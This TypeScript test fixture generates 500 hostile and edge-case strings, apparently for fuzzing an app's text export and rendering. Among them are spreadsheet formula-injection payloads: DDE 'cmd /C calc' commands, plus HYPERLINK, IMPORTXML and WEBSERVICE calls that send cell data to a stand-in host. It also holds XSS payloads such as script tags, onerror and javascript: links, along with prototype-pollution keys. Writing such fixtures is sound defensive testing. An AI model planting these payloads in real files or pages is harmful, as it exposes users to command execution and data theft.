/** 500 texts that mean something else to some program, and plain ones between them. */
const FORMULAS = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '|',
  '%',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u200b=',
  '\ufeff=',
  '\u00a0+',
];
const BODIES = [
  '1+1',
  `cmd|' /C calc'!A0`,
  'HYPERLINK("http://x.example/?"&A1,"点我")',
  'IMPORTXML(CONCAT("http://x.example",A1),"//a")',
  'WEBSERVICE("http://x.example")',
  'DDE("cmd";"/C calc";"x")',
  'SUM(A1:A9)*2',
  "2+5+cmd|' /C calc'!A0",
];
const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<!-- --><svg/onload=alert(1)>',
  '[x](javascript:alert(1))',
  '![x](http://x.example/a.png)',
  '<http://x.example>',
  'https://x.example/a?b=c',
  'www.x.example',
  'mailto:a@x.example',
  'javascript:alert(1)',
  '[x]: javascript:alert(1)',
  '# 标题',
  '- 一',
  '1. 一',
  '2) 二',
  '> 引',
  '***',
  '---',
  '| a | b |',
  '`code`',
  '~~~',
  '&lt;b&gt;',
  '&#60;b&#62;',
  '\\<b>',
  '**粗** _斜_',
];
const ODD = [
  '',
  ' ',
  "'",
  "'=1",
  "''=1",
  '"',
  '""',
  '","',
  'a,b',
  'a;b',
  'a\tb',
  'a\nb',
  'a\r\nb',
  'a\rb',
  ' 前后 ',
  '007',
  '1e5',
  '1-2',
  '3/4',
  '2025-01-02',
  '15555411412112',
  '99999999999999999999',
  'TRUE',
  'null',
  '__proto__',
  'constructor',
  '_x000D_',
  '_x0041_',
  ']]>',
  '&amp;',
  '\u202e反',
  '\u0000零',
  '\u0007铃',
  '\u001f单',
  '\u007f删',
  '\u0085行',
  '\u2028行',
  '\ud83d\ude00',
  '\ud83d',
  '\ude00',
  '\ufffe',
  '\uffff',
  '慢读小镇',
  'é',
  'a'.repeat(3000),
  'END:VEVENT\r\nBEGIN:VALARM',
  'a;b,c\\n:d',
];

function make(): string[] {
  const all = [...MARKUP, ...ODD];
  for (const first of FORMULAS) for (const body of BODIES) all.push(first + body);
  for (const text of MARKUP) all.push(`字 ${text} 字`, `${text}\n${text}`);
  for (let i = 0; all.length < 500; i++) {
    const a = FORMULAS[i % FORMULAS.length] ?? '';
    const b = MARKUP[i % MARKUP.length] ?? '';
    const c = ODD[i % ODD.length] ?? '';
    all.push(`${c}${a}${b}${i}`);
  }
  return all.slice(0, 500);
}

export const HOSTILE: readonly string[] = make();
